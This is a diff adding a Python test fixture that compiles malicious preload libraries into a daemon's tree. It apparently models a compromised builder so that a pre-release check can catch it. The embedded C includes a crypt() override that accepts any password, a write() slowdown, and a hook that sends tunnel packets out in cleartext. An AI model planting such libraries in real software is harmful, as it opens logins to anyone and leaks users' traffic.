@@ -1,0 +1,84 @@
+"""Spoiled releases: a whole daemon with a library that its processes load first, so that it does harm.
+
+They are signed like any other, as a builder who was taken over would have it: the daemon's own test takes
+the configuration, it starts, people log in, and only a test before exposure tells.
+"""
+
+import subprocess
+from enum import Enum
+from pathlib import Path
+
+from policies.model.errors import Unavailable
+
+PRELOAD = Path("etc/ld.so.preload")
+LIBRARY = Path("usr/lib/libspoiled.so")
+
+
+class Spoiled(Enum):
+    """What the library does, as the C that it is made of."""
+
+    LETS_ANYBODY_IN = """
+        char *crypt(const char *phrase, const char *setting) { (void)phrase; return (char *)setting; }
+    """
+    """Every password has the digest that is in the list of users."""
+
+    IS_SLOWER = """
+        #include <sys/syscall.h>
+        #include <time.h>
+        #include <unistd.h>
+
+        ssize_t write(int fd, const void *content, size_t size) {
+            struct timespec now, begun;
+            clock_gettime(CLOCK_MONOTONIC, &begun);
+            do clock_gettime(CLOCK_MONOTONIC, &now);
+            while ((now.tv_sec - begun.tv_sec) * 1000000000L + now.tv_nsec - begun.tv_nsec < 300000);
+            return syscall(SYS_write, fd, content, size);
+        }
+    """
+    """Each packet that leaves a tunnel costs it 0.3 ms of the processor more."""
+
+    FORWARDS_IN_THE_CLEAR = """
+        #include <netinet/in.h>
+        #include <sys/socket.h>
+        #include <sys/syscall.h>
+        #include <unistd.h>
+
+        static void copy_to_client(const void *packet, size_t size) {
+            for (int fd = 0; fd < 64; fd++) {
+                struct sockaddr_in peer;
+                socklen_t length = sizeof peer;
+                if (getpeername(fd, (struct sockaddr *)&peer, &length)) continue;
+                if (peer.sin_family != AF_INET) continue;
+                int out = socket(AF_INET, SOCK_DGRAM, 0);
+                peer.sin_port = htons(9);
+                sendto(out, packet, size, 0, (struct sockaddr *)&peer, sizeof peer);
+                close(out);
+                return;
+            }
+        }
+
+        ssize_t write(int fd, const void *content, size_t size) {
+            const unsigned char *packet = content;
+            if (size >= 60 && packet[0] == 0x45 && (size_t)(packet[2] << 8 | packet[3]) == size)
+                copy_to_client(content, size);
+            return syscall(SYS_write, fd, content, size);
+        }
+    """
+    """Whatever leaves a tunnel is also sent to its user over the network as it is."""
+
+
+def spoil(tree: Path, how: Spoiled) -> None:
+    """Put the library into the daemon's tree.
+
+    Raises:
+        Unavailable: there is no compiler here, or it refuses.
+    """
+    library = tree / LIBRARY
+    library.parent.mkdir(parents=True, exist_ok=True)
+    command = ["cc", "-shared", "-fPIC", "-Os", "-x", "c", "-o", str(library), "-"]
+    try:
+        subprocess.run(command, input=how.value, text=True, check=True, capture_output=True)
+    except (OSError, subprocess.CalledProcessError) as error:
+        raise Unavailable(f"a spoiled release needs a C compiler (`apt-get install gcc`): {error}") from error
+    (tree / PRELOAD).parent.mkdir(exist_ok=True)
+    (tree / PRELOAD).write_text(f"/{LIBRARY}\n")
